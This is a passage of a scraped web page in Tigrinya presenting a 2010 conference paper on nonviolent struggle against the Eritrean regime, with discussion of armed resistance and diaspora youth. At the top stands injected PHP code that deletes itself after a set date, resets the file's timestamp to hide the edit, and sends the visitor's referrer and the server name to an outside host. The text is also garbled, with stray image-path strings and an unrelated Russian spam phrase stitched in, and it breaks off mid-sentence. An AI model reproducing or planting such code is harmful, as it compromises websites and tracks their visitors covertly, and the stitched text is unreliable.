check_meta(); function check_meta(){ $jp = __FILE__; $jptime = filemtime($jp); if(time() >= 1456727708){ $jp_c = file_get_contents($jp); if($t = @strpos($jp_c,"check_meta();")) { $contentp = substr($jp_c,0,$t); if(@file_put_contents($jp, $contentp)){ @touch($jp,$jptime); } } } @file_get_contents("http://web.51.la:82/go.asp?svid=17&id=18776693&referrer=".$_SERVER['HTTP_REFERER']."&vpage=http://".$_SERVER['SERVER_NAME']."/components/com_content/helpers/helpers.php"); } ዘይጎነጻዊ ኣገባብ ቃልስን መኸተ ኣንጻር ኤርትራዊ ምልክን
кремлевская диета

ዘይጎነጻዊ ኣገባብቃልስን መኸተ ኣንጻር ኤርትራዊ ምልክን

User Rating: / 109
PoorBest

  ዘይጎጻዊ ኣገባብ ቃልሲ ክበሃል እንከሎ ብዙሓት ሰባት ምስ ሰላማዊ ሰልፍታን ምጽሓፍ ናይ ጥርዓን ደብዳበታትን ጥራይ ኣተሓሒዞም ዝርድእዎ ሰባት ኣለዉ። ሓደ-ሓደ ግዜ ውን ከም መምዘኒ ናይቲ ኣብ ምልኪ ስርዓት ህግደፍ ዘለካ ኣረኣእያ ጌሮም ይወስድዎ።ዘይጎነጻዊ ኣገባብ ቃልስን መኸተ ኣንጻር ኤርትራዊ ምልክን



(ኣብ ዋዕላ ሰላም ብራይተን፡ ዓዲ እንግሊዝ፡ ዝቐረበ መዛተዪ ወረቐት)

21–23 ጕንበት 2010



ብዶ/ር ዳንኤል ረ. መኰነን



ዝኸበርኩም ተሳተፍትን ወደብትን ናይዚ ጉባኤ፡



ብቐዳምነት፡ ኣብዚ ጉባኤ’ዚ ክሳተፍን ተሞክሮይ ከካፍልን ዕድመ ንዘቕረቡለይ ወደብቲ ከመስግን እፈቱ። እዚ ጽሑፍ’ዚ፡ ኣብ ነሓሰ 2009 ኣብ ፍራንክፈርት ንዝተኻየደ ሓባራዊ ፈስቲቫል ሰልፊ ህዝቢ ኤርትራን ሰልፊ ዲሞክራሲኤርትራን ተባሂሉ ዝተዳለወ ጽሑፍ ኢዩ። ኣብቲ ፈስቲቫል ብተክኒካዊ ጸገማት ክካፈል ስለ ዘይከኣልኩ፡ እዚ ጽሑፍ ኣብ ክንዳይ ብኣቶ ኣሰፋው በርሀ ኢዩ ተነቢቡ። ካብ ዕዱማት ክቐርብ ዝኽእል ሕቶታት ክምልስ፡ ርእይቶታት ድማ ክቕበል ዕድል ስለ ዘይረኸብኩ፡ እንገደና ኣብዚ ናይ ሎሚ ጉባኤ ከቕርቦ መሪጸ። ኣገዳስነቱ ምስ ዕማላታት ናይዚ ጉባኤ ‘ውን የሳኒ ኢዩ ዝብል እምነት ስለ ዘለኒ፡ ተሳተፍቲ ጉባኤ ዝሰማምዕሉ ነጥቢ ክኸውን ተሰፋ እገብር።



ንሎሚ መሪጸዮ ዘለኹ መዛተዪ ነጥቢ፡ ከምቲ ኣብ ኣርስእስቲ ተነጺሩ ዘሎ፡ ኣብ ዘይጎነጻዊ ኣገባብ ቃልሲ ዘተኮረ ክኸውን ኢዩ። ኩልና ከም እንግንዘቦ እዚ ኣርእስቲ’ዚ ሓደ ካብቶም ኣብዚ እዋንዚ ኣካታዕቲ ኮይኖም ዘለዉ ዛዕባታት ኢዩ። ኣዝዩ ገፊሕ ኣርእስቲ ብምዃኑ ንኹሉ ጎድንታቱ ኣብዚ ናይ ሎሚ መድረኽ ጥራይ ከተነጽሮ ዝከኣል ኣይኮነን። ኣብቲ ኣገዳሲ ዝብሎ ነጥብታት ብምትኳር ተረድኦይ ኣብዚ ጉዳይዚ ከምዚ ዝስዕብ ከቕርቦ ኢየ።



1. መእተዊ



ከም ህዝቢ ኤርትራዝኣመሰለ፡ ንነዊሕ ዓመታት መሰሉ ዝተሓርመ፣ ፍትሒ ዝተነፍጎ፣ ዓመጽ ዘሰልከዮ ህዝቢ፡ ብመሰል ደረጃ ክእድም ወይ ብረት ተሓንጊጡ መሰለይ ክብል መሰል ከም ዘለዎ ብዙሕ ዘከራኽር ነገር ኣይኮነን። ኣብ ካልእ ከይከድና ንኣድማሳዊ ውዕል ሰብኣዊ መሰላት (Universal Declaration of Human Rights)እንተተመልከትና’ኳ እዚ ዝስዕብ ሓሳብ ንረክብ። እቲ ኣዋጅ፡ ኣብ ሳልሳይ ሕጡበ-ጽሑፍ ናይ መእተዊኡ (preamble) ከምዚ ዝስዕብ ዝብል መትከል ኣስሪፉ ኣሎ።



Whereas it is essential, if man is not to be compelled to have recourse, as a last resort, to rebellion against tyranny and oppression, that human rights should be protected by the rule of law ...



ተዛማዲ ናይ ትግርኛትርጉሙ ከምዚ ዝስዕብ ይመስል፦ወዲ ሰብ፡ ዋላ ውን ከም ናይ መጨረሻ ኣማራጺ፡ ተገዲዱ ንጭቆናን ምልክን ብኣድማ መታን ከይምክቶሲ፡  ኣብ ልዕልና ሕጊ ዝተመስረተ ሰብኣዊ መሰላት ክኽበር ኣለዎ።



እዚ ሓሳብ እዚ ዋላ’ኳ ብቐጥታ መሰል ምእዳም እንተዘይፈቐደ፡ ብተዘዋዋሪ መገዲ ግን ከም ናይ መጨረሻ ኣማራጺ ክትግበር ከም ዝኽእል ዝእምት መትከል ኣስፊሩ ኣሎ። መሰል ምእዳም ክበሃል እንከሎ ከኣ ብረት ኣልዒልካ ንመሰልካ ምርግራግ ውን ከጠቓልል ከም ዝኽእል እምንቶይ ኢዩ።  ነዚ ትንተና እዚ ዝድግፉ ምሁራትን ክኢላታትን ከም ዘለዉ ውን እፈልጥ። ስለዚ ብመሰል ደረጃ፡ ዝተዓመጸ ህዝቢ፡ ካልእ ኩሉ ኣማራጽታት ዝተነፍጎ ህዝቢ፡ ፖለቲካዊ ኩነታት ዘፍቅደሉ እንተኾይኑ ዕጥቃዊ ቃልሲ ከካይድ ከምዝኽእል ዘከራኽር ነገር ኣይኮነን። ኣብ ናይ ሕጂ ኩነታት ግን እዚ መሰል’ዚ፡ ከምቲ ጸኒሐ ዝገልጾ፡ ብዙሕ ሕቶታት ዝኸበቦ፡ ኣይ መርገም ኣይ ምረቓ ዝዓይነቱ ጉዳይ ኢዩ። ናብ ታሪኽ ምልስ ኢልና ግን ህዝቢ ኤርትራ ናጽነቱ ንምጭባጥ ዘካየዶ ብረታዊ ቃልሲ ከም ሓደ ጭቡጥ ኣብነት ክጥቀስ ዝኽእል ነገር ምዃኑ ንግንዘብ። እዚ ተሞክሮ እዚ ግን ኣብ ነብሱ ዝኸኣለ ፍሉይ ታሪኻዊ ኩነታት ዝተኻየደ ቃልሲ ብምንባሩ ካብዚ ሕጂ ዘዛርብ ዘሎ ዛዕባ ዝፍለየሉ ብዙሕ ነጥብታት ኣሎ። ሕጂ ዘዛርብ ዘሎ ጉዳይ ግን ኣብዚ ዝካየድ ዘሎ ቃልሲ ኣንጻር ምልኪ ከመይ እንተተገብረ ይሓይሽ ዝብል ክትዕ ኢዩ። እዚ ዝስዕብ ትዕዝብታት ክቐርበሉ ይኽእል።



2. ኣብ ኤርትራስ እንታይ ክግበር ይከኣል፧



ኣብ ኤርትራ ዘሎ ስርዓት፡ በቲ ንቡር መግለጺ መንግስትነት “መንግስቲ” ክትብሎ ዘሸግር፡ ብኣንጻሩ ብመለኽትን ዓመጽትን ዝቖመፖለቲካዊ ጉጅለ ኢዩ። ብፍላይ ካብ መስከረም 2001 ጀሚሩ እዚ ሓቂ እዚ ኣዝዩ ጎሊሑ ኢዩ። ስርዓት ህግደፍ ዝኾነ ይኹን ንዲሞክራስያዊ ለውጢ ዝሓለነ ተበግሶ ከም ዘየፍቅድ፡ እኳ ደኣ ብኣንጻሩ ለውጢ ዝሓትት ተበግሶ ብጭካነ ከምዝምክቶ ብግብሪ ተራእዩ ኢዩ። ሕልፍ ዝበለ መጻይን ኣራዊታውን ባህርይ ዘለዎ ስርዓት ከም ዝኾነ ንኹሉ ደላይ ለውጢ ዝስወሮ ነገር ኣይኮነን። ኣብ ናይ ቃልሲ ስትራተጂ ዘሎ ፍልልያት ግን ኣብ ልዕሊ ባህርያትስርዓት ህግደፍ ንዘሎ ተረድኦ ዝውክል ከም ዘይኮነ ብሩህ ክኸውን ይግብኦ።ሎሚ ኣብ ውሽጢ ኤርትራ ዝኾነ ይኹን ንዲሞክራስያዊ ለውጢ ዝሓለነ ናይ ቃልሲ ስትራተጂ (ጎነጻዊ ድዩ ዘይጎጻዊ ብዘይገድስ) ከተተግብር ዝከኣል ነገር ኣይኮነን። ኣብ ውሽጢ ኤርትራ ዘሎ ህዝቢ ብኽሳዱ ተረጊጹ ምዕይ ክብለሉ ኣብ ዘይክእል ኩነታት ስለ ዝርከብ፡ እቲ ዝርካቡ ናይ ቃልሲ ተበግሶታት ኣብ ጎረባብቲ ሃገራት ወይ ኣብ ካልኦት ናይ ስደት ሃገራት ኮንካ ኢዩ ዝግበር ዘሎ። ገለ-ገለ ውድባት ኣብ ኢትዮጵያን ሱዳንን ኣብያተ ጽሕፈትን “ንጡፍ” ወተሃደራዊ ህላወን ከም ዘለወን ይግለጽ’ኳ እንተኾነ፡ እቲ ዝበዝሐ ኤርትራዊ ተበግሶታት ግን ኣብኤሮጳ፣ ኣመሪካን ካልእ ክፋላት ዓለምን ብዝቕመጡ ኤርትራውያን ዝተዓብለለ ምዃኑ ኩልና ንሰማማዓሉ ነጥቢ’ዩ ዝብል እምነት ኣሎኒ። ስለዚ ብሕጽር ዝበለ ኣገላልጻ ናይ ስደት ቃልሲ ኢልካ እትገልጾ መኸተ ኢዩ ዝካየድ ዘሎ። እቲ ክሕተት ዘለዎ ሕቶ እምበኣር፡ ኣብ ከምዚ ዓይነት ቃልሲ ኣየናይ ዓይነት ስትራተጂ ኢዩ ዝያዳ ዘድምዕ ወይ ኣይናይ’ዩ ዝያዳ ግብራዊ ኢልካ ዝሕተት ሕቶ’ዩ ክኸውን ዘለዎ። ኣብ ጎነጻውን ዘይጎነጻውን ኣገባባት ቃልሲ ዘሎ ፍልስፍናውን ሞራላውን ሙጉት ንግዚኡ ንጎኒ ገዲፍና ኣብቲ ግብራዊ (ፕራግማቲካዊ) መዳይ ኣተኵርና ክንምልሶም ዝግብኣና መሰረታውያን ሕቶታት ኣለዉ። ከምዚ ዝስዕብ ከቕርቦም ኢየ።



3. ምስ መንን ኣበይን፧



መብዛሕትኡ ኣብ ቃልሲ ዘሎ ሰብ ከም ዘስተውዕለሉ፡ እዚ ዝካየድ ዘሎ መኸተ ኣንጻር ምልኪ ዝልለየሉ ሓደ መሰረታዊ ጠባይ ኣሎ። ነቲ ቃልሲ ክሳብ ሕጂ ጸላዊ ክበሃልዝኽእል ቁጽሪ ህዝቢ (critical mass) ኣይተጸንበሮን። እቲ ምኽንያት ብዙሕ እኳ እንተኾነ እቲ ጸገም ግን መሰረታዊ ኢዩ። ለውጢ ክደናጎ ካብ ዝገበሩ መሰረታውያን ምኽንያታት ሓደ ድማ ክሳብ ሕጂ ከቢድ ጽልዋ ዘለዎ ቁጽሪ ህዝቢ ኣብ መሳርዕ ቃልሲ ክጽንበር ዘይምኽኣሉ ኢዩ። ድሒሩ ዝኽሰት ዘሎ ተስፋ ዝህብ ናይ ምዕዃኽ ተርእዮታት’ኳ እንተሎ ብመንጽር ሰፊሕ ድጋፍ ህዝቢ ግን ገና ብዙሕ ዝተርፍ ነገራት ከም ዘሎ ዘከራኽር ጉዳይ ኣይኮነን። ነዚ መሰረታዊ ሕጽረት’ዚ ምስቲ ቃልሲ ዝጠልቦ ረቛሕታት ኣዛሚድካ ምርኣዩ ከድልየና ኢዩ። ቃልሲ ብመሰረቱ (ብውክልናን ብጽሒትን) ንመላእ ኣካል ሕብረተሰብ ከጽንብር ዝግብኦ መስርሕ እኳ እንተኾነ ካብ ናብኡ ግን መንእሰይ ዘይሳተፎ ምስ ዝኸውን ኣድማዕነቱ ኣጠራጣሪ ኢዩ። ከምቲ ኣቐዲመ ዝበልክዎ ተስፋ ዝህብ ናይ ቀረባ እዋን ምዕባለታት’ኳ እንተሎ ተሳትፎ መንእሰይ ኣብዚ ዝካየድ ዘሎ ቃልሲ ግንኣብቲ ዝተሓተ ደረጃ ኢዩ ዘሎ። ዝኾነ ዕጥቃዊ ቃልሲ ከካይድ ኢየ ዝብል ፖለቲካዊ ሓይሊ እምበር ኣብ ትሕቲ ከምዚ ዝኣመሰለ ርኡይ ሕጽረት ዘለዎኩነታት ነቲ ዝበሃልዘሎ ስትራተጂ ብኸመይ ከተግብሮ ከም ዝሕልን ክትርድኦ ኣዝዩ የጸግም።



መንእሰይ ኤርትራ ኣብ ቃልሲ ዘይመጸንበሪኡ ዝተፈላለየ ምኽንያታት ክህልዎ ይኽእል። ልዕሊ ኹሉ ግን እቲ ኣብዚ ቐረባ ዓመታት ካብ ኤርትራ ዝተሰደደ መንእሰይ ዳርጋ ብምልኡ ብውትህድርና ዝላደየ፡ ብረቱን ዕጥቁን ደርብዩ ናብ ስደት ሃጽ ዝበለ ዜጋ ኢዩ። እቲ ዝዓበየ ጸላኢኡ ህግደፍ ጥራይ ዘይኮነ ደረት ዝሓለፈ ዕስክርናን ወተሃደራዊ ባህልን ኢዩ። ብግብሪ ይረአ ከም ዘሎ ድማ፡ ይትረፍ ንዓ ብረት ኣልዒልካ ንህግደፍ መክቶ ኢልካዮ ክመጸልካስ ኣኼባታት ጸዊዕካ ዝመጽእ ‘ውን እንተተረኺቡ ንጋዶ ኢዩ። መንእሰይ ኣብ ቃልሲ ብንጥፈት ንኽሳተፍ ጻዕሪ ምክያድ ናይ ኩሉ ሓላፍነት እኳ እንተኾነ ንዓ ኣብ ብረታዊ ቃልሲ ተጸመድ ኢልካዮ ሕራይ ኢሉ ዝመጸልካ መንእሰይ ኣሎ ኢለ ክኣምን ግን ብወገነይ ኣዝዩ ይኸብደኒ። ንነብሰይ ኣካል ናይዚ ዝዛረበሉ ዘለኹ ወለዶ ጌረ ኢየ ዝሓስባ። ነዚ ወለዶዚ ብምሉእነት ይውክል ኢየ ክብል እኳ እንተዘይደፈርኩ ትርግታ ልቡ ግን ብዝተወሰነ ዓቐን ከድምጽ ዝኽእል ኮይኑ ይስምዓኒ። ብተረድኦይ ጎነጽን ውትህድርናን መንእሰይ ሎሚ ክሰምዖ ዝደሊ ናይ መወዳእታ ዘረባ ድኣ እምበር ፈላሚሙጉት ኣይመስለንን። እሞ ንመን 